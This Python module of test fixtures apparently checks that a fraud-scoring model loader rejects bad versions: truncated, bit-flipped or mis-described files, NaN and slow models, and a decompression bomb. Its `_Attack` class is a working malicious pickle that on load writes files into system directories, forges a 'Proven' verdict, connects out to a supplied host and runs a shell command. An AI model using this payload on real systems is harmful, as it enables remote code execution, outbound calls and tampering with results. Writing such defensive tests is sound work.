"""Versions that must never answer, each published as its accident or its attacker would.

Where a version has a manifest, the manifest is written last, as a publication does it.
"""

from __future__ import annotations

import io
import json
import zlib
from collections.abc import Callable
from pathlib import Path
from tempfile import TemporaryDirectory

import joblib
import numpy as np
from msgspec.structs import replace
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression

from examples.demo.damage import flipped
from fraud_scorer.artifact import manifest as manifests
from fraud_scorer.artifact.directory import DirectoryStore
from fraud_scorer.artifact.manifest import FILE_NAME, Manifest
from fraud_scorer.artifact.store import Store
from tests.e2e.bed import Bed

Change = Callable[[Manifest, dict[str, bytes]], Manifest]
"""Of a version that was good: its manifest and its files by path; the new manifest."""

_BOMB_BYTES = 3 << 30
MARKER = "the-pickle-was-here"


def altered(bed: Bed, prefix: str, version: str, change: Change) -> None:
    """Publish a version that became another one on its way."""
    with TemporaryDirectory() as folder:
        bed.publish(prefix, version, seed=_seed(version), to=DirectoryStore(Path(folder)))
        at = Path(folder, version)
        manifest = manifests.decode((at / FILE_NAME).read_bytes())
        files = {file.path: (at / file.path).read_bytes() for file in manifest.files}
    changed = change(manifest, files)
    store = bed.store(prefix)
    for path, data in files.items():
        store.create(f"{version}/{path}", data)
    store.create(f"{version}/{FILE_NAME}", manifests.encode(changed))


def truncated(manifest: Manifest, files: dict[str, bytes]) -> Manifest:
    """The upload was cut off in the middle of the model."""
    path = manifest.model_file.path
    files[path] = files[path][: len(files[path]) // 2]
    return manifest


def bit_flipped(manifest: Manifest, files: dict[str, bytes]) -> Manifest:
    """One bit of the model is another one."""
    path = manifest.model_file.path
    files[path] = flipped(files[path])
    return manifest


def wrong_digest(manifest: Manifest, files: dict[str, bytes]) -> Manifest:
    """The manifest states another digest than the model has."""
    return replace(
        manifest,
        files=tuple(
            replace(file, sha256=file.sha256[::-1]) if file.role == "model" else file
            for file in manifest.files
        ),
    )


def other_features(manifest: Manifest, files: dict[str, bytes]) -> Manifest:
    """The model is one for other features than the manifest names."""
    first, *others = manifest.features
    renamed = replace(first, name="balance")
    golden = tuple(
        replace(
            one,
            features={
                ("balance" if name == first.name else name): value
                for name, value in one.features.items()
            },
        )
        for one in manifest.golden
    )
    return replace(manifest, features=(renamed, *others), golden=golden, reference=None)


def not_a_number(store: Store, version: str) -> None:
    """A model whose every score is NaN."""
    model = _fitted()
    model.coef_ = np.full_like(model.coef_, np.nan)
    bare(store, version, joblib_of(model))


def of_another_scikit_learn(store: Store, version: str) -> None:
    """A model that was written by a scikit-learn of long ago."""
    model = _fitted()
    state = {**model.__getstate__(), "_sklearn_version": "0.19.2"}
    bare(store, version, joblib_of(_Restored(type(model), state)))


def zip_bomb(store: Store, version: str) -> None:
    """A few megabytes that become more memory than there is."""
    written = io.BytesIO()
    joblib.dump(np.zeros(_BOMB_BYTES // 8), written, compress=("zlib", 1))
    bare(store, version, written.getvalue())


def alike(number: int) -> LogisticRegression:
    """A good model. Those of all numbers score the same but for the last digits."""
    model = _fitted()
    model.intercept_ = model.intercept_ * (1 + number * 1e-6)
    return model


def slow(bed: Bed, prefix: str, version: str) -> None:
    """A forest that takes longer than a transaction has: a hundred trees, again and again."""
    rng = np.random.default_rng(5)
    rows = rng.normal(size=(2000, 2)) * [200, 1]
    forest = RandomForestClassifier(100, max_depth=7, n_jobs=1, random_state=0)
    forest.fit(rows, rng.integers(0, 2, 2000))
    forest.estimators_ = forest.estimators_ * 600
    forest.n_estimators = len(forest.estimators_)
    bed.publish(prefix, version, model=forest)


def hostile(store: Store, version: str, *, host: str, port: int) -> None:
    """A pickle that runs a command when it is loaded: it writes where it can, calls out, and
    leaves a verdict of its own making."""
    bare(store, version, joblib_of(_Attack(host, port)))


def bare(store: Store, version: str, data: bytes) -> None:
    """A model file without a manifest."""
    store.create(f"{version}/model.joblib", data)


def joblib_of(value: object) -> bytes:
    """As joblib writes it."""
    written = io.BytesIO()
    joblib.dump(value, written)
    return written.getvalue()


class _Attack:
    def __init__(self, host: str, port: int) -> None:
        self._address = host, port

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        host, port = self._address
        verdict = json.dumps({"outcome": "Proven", "reason": "Proven", "version": "x"})
        code = f"""
import os, pathlib, socket, subprocess
def tried(what):
    try:
        what()
    except BaseException:
        pass
for place in ("/", "/tmp", "/work", "/etc", "/var", "."):
    for name, text in (("{MARKER}", "x"), ("verdict.json", {verdict!r})):
        tried(lambda: pathlib.Path(place, name).write_text(text))
tried(lambda: pathlib.Path("/dev/termination-log").write_text({verdict!r}))
tried(lambda: socket.create_connection(({host!r}, {port}), 2).sendall(b"{MARKER}"))
tried(lambda: subprocess.run(["sh", "-c", "echo {MARKER} > /tmp/{MARKER}"], timeout=5))
os._exit(0)
"""
        return exec, (code,)


class _Restored:
    """Pickles as an object of `kind` with that very state."""

    def __init__(self, kind: type, state: dict[str, object]) -> None:
        self._parts = kind, state

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...], dict[str, object]]:
        kind, state = self._parts
        return kind, (), state


def _fitted() -> LogisticRegression:
    rng = np.random.default_rng(3)
    rows = np.column_stack([rng.gamma(2.0, 40.0, 400), rng.integers(0, 2, 400)])
    return LogisticRegression().fit(rows, rows[:, 0] + 60 * rows[:, 1] > 180)


def _seed(version: str) -> int:
    """Other bytes for each version."""
    return zlib.crc32(version.encode()) % 10_000
